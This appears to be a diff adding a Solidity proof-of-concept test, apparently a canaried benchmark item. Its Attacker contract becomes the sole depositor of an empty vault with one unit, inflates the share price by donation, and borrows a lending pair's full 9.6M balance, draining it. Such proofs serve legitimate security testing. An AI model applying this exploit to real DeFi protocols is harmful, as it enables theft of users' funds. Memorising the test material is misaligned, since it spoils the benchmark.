@@ -1,0 +1,127 @@
+// SPDX-License-Identifier: MIT
+pragma solidity 0.8.30;
+
+import "./MarramPair.sol";
+
+// assay-canary-3ded9928-2ad3-4c8e-934a-67d011380646
+
+contract Token is IToken {
+    mapping(address => uint256) public balanceOf;
+    mapping(address => mapping(address => uint256)) public allowance;
+
+    function mint(address to, uint256 amount) external {
+        balanceOf[to] += amount;
+    }
+
+    function approve(address spender, uint256 amount) external returns (bool) {
+        allowance[msg.sender][spender] = amount;
+        return true;
+    }
+
+    function transfer(address to, uint256 amount) external returns (bool) {
+        balanceOf[msg.sender] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+
+    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
+        allowance[from][msg.sender] -= amount;
+        balanceOf[from] -= amount;
+        balanceOf[to] += amount;
+        return true;
+    }
+}
+
+contract Proof {
+    uint256 internal constant LENT = 9_600_000e18;
+
+    Token internal usd;
+    Token internal issued;
+    EarningVault internal vault;
+    MarramPair internal pair;
+    Attacker internal thief;
+
+    function setUp() public {
+        usd = new Token();
+        issued = new Token();
+        vault = new EarningVault(usd);
+        pair = new MarramPair(vault, issued);
+        issued.mint(address(pair), LENT);
+        usd.mint(address(this), 100_000e18);
+        usd.approve(address(vault), type(uint256).max);
+        vault.approve(address(pair), type(uint256).max);
+        issued.approve(address(pair), type(uint256).max);
+        thief = new Attacker(pair, vault, usd, issued);
+        usd.mint(address(thief), 2_001e18);
+    }
+
+    function test_Regular() public {
+        vault.deposit(20_000e18, 20_000e18);
+        usd.transfer(address(vault), 2_000e18);
+        pair.pledge(10_000e18);
+        require(pair.readRate() > 0.909e18 && pair.rate() < 0.91e18, "rate");
+
+        pair.borrow(10_000e18);
+        (bool ok,) = address(pair).call(abi.encodeCall(MarramPair.borrow, (1_000e18)));
+        require(!ok, "over the limit");
+        (ok,) = address(pair).call(abi.encodeCall(MarramPair.release, (2_000e18)));
+        require(!ok, "released too much");
+        (ok,) = address(pair).call(abi.encodeCall(MarramPair.liquidate, (address(this), 1e18)));
+        require(!ok, "liquidated while solvent");
+
+        pair.repay(address(this), 10_000e18);
+        pair.release(10_000e18);
+        require(issued.balanceOf(address(pair)) == LENT && pair.totalDebt() == 0, "repaid");
+        require(vault.redeem(20_000e18) == 22_000e18, "redeemed");
+        pair.retire(LENT);
+    }
+
+    function exploit() public {
+        thief.run(LENT);
+    }
+
+    function test_Exploit() public {
+        uint256 before = recoverable();
+        exploit();
+        require(recoverable() + 9_590_000e18 <= before, "nothing lost");
+    }
+
+    /// What the issuer can still get: idle dollars, and outstanding debt as far as there are assets behind it.
+    function recoverable() public view returns (uint256) {
+        uint256 behind = vault.convertToAssets(pair.totalShares());
+        uint256 debt = pair.totalDebt();
+        return issued.balanceOf(address(pair)) + (debt < behind ? debt : behind);
+    }
+
+    function target() public view returns (address) {
+        return address(pair);
+    }
+
+    function attacker() public view returns (address) {
+        return address(thief);
+    }
+}
+
+/// Becomes the only depositor of the empty vault with one unit, raises its price, and borrows against that unit.
+contract Attacker {
+    MarramPair internal pair;
+    EarningVault internal vault;
+    Token internal usd;
+    Token internal issued;
+
+    constructor(MarramPair pair_, EarningVault vault_, Token usd_, Token issued_) {
+        pair = pair_;
+        vault = vault_;
+        usd = usd_;
+        issued = issued_;
+    }
+
+    function run(uint256 amount) external {
+        usd.approve(address(vault), 1);
+        vault.approve(address(pair), 1);
+        vault.deposit(1, 1);
+        pair.pledge(1);
+        usd.transfer(address(vault), 2_000e18);
+        pair.borrow(amount);
+    }
+}
